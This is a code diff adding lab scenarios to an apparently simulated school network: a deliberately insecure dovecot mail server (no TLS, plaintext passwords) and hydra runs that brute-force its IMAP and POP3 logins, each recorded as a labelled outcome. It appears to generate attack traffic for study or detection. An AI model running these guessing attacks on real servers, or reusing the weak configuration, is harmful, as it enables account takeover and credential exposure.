@@ -253,3 +253,89 @@ def login_mistyped(lan: SchoolLan, small: bool = False) -> Outcome:
         None,
         "curl",
     )
+
+
+def _hydra(name: str, args: list[str], description: str, lan: SchoolLan, out: str) -> Outcome:
+    """The Outcome of one hydra run from the attacker laptop (the wordlist named short)."""
+    return Outcome(
+        name,
+        ("brute_force",),
+        "hydra " + " ".join(args).replace(str(lan.work / "passwords.txt"), "passwords.txt"),
+        description,
+        lan.attacker,
+        "hydra",
+        notes={"output_tail": out[-300:]},
+    )
+
+
+DOVECOT_CONF = """\
+protocols = {protocols}
+listen = {ip}
+base_dir = {home}/run
+state_dir = {home}/state
+log_path = {logs}/dovecot-mail.log
+ssl = no
+disable_plaintext_auth = no
+auth_mechanisms = plain login
+passdb {{
+  driver = passwd-file
+  args = scheme=PLAIN {home}/users
+}}
+userdb {{
+  driver = static
+  args = uid=nobody gid=nogroup home={home}/mail/%u
+}}
+mail_location = maildir:~/Maildir
+"""
+
+
+def _dovecot(lan: SchoolLan, protocol: str, port: int) -> subprocess.Popen[bytes]:
+    """The school's mail server: dovecot with one mailbox (teacher / SECRET)."""
+    home = lan.work / f"dovecot-{protocol}"
+    home.mkdir(mode=0o755, exist_ok=True)
+    (home / "users").write_text(f"teacher:{{PLAIN}}{SECRET}::::::\n")
+    conf = home / "dovecot.conf"
+    conf.write_text(
+        DOVECOT_CONF.format(protocols=protocol, ip=lan.srv.ip, home=home, logs=lan.work / "logs")
+    )
+    proc = lan.start(lan.srv.ns, f"dovecot-{protocol}", "dovecot", "-F", "-c", str(conf))
+    lan.wait_port(lan.srv, port)
+    return proc
+
+
+def imap_guess(lan: SchoolLan, small: bool = False) -> Outcome:
+    """hydra against dovecot's IMAP (every guess: ``<tag> NO [AUTHENTICATIONFAILED]``)."""
+    server = _dovecot(lan, "imap", 143)
+    try:
+        args = ["-I", "-t", "4", "-l", "teacher", "-P", _wordlist(lan), f"imap://{lan.srv.ip}"]
+        out = _bounded(lan, lan.attacker.ns, 90, "hydra", *args)
+    finally:
+        lan.stop(server)
+    return _hydra(
+        "imap_guess",
+        args,
+        "hydra guessing IMAP passwords on dovecot (port 143, NO [AUTHENTICATIONFAILED]; dovecot "
+        "holds refusals back, so hydra is stopped after 90 s), "
+        f"{len(PASSWORDS)} passwords, 4 tasks",
+        lan,
+        out,
+    )
+
+
+def pop3_guess(lan: SchoolLan, small: bool = False) -> Outcome:
+    """hydra against dovecot's POP3 (every guess: ``-ERR [AUTH] Authentication failed``)."""
+    server = _dovecot(lan, "pop3", 110)
+    try:
+        args = ["-I", "-t", "4", "-l", "teacher", "-P", _wordlist(lan), f"pop3://{lan.srv.ip}"]
+        out = _bounded(lan, lan.attacker.ns, 90, "hydra", *args)
+    finally:
+        lan.stop(server)
+    return _hydra(
+        "pop3_guess",
+        args,
+        "hydra guessing POP3 passwords on dovecot (port 110, -ERR [AUTH]; dovecot holds "
+        "refusals back, so hydra is stopped after 90 s), "
+        f"{len(PASSWORDS)} passwords, 4 tasks",
+        lan,
+        out,
+    )
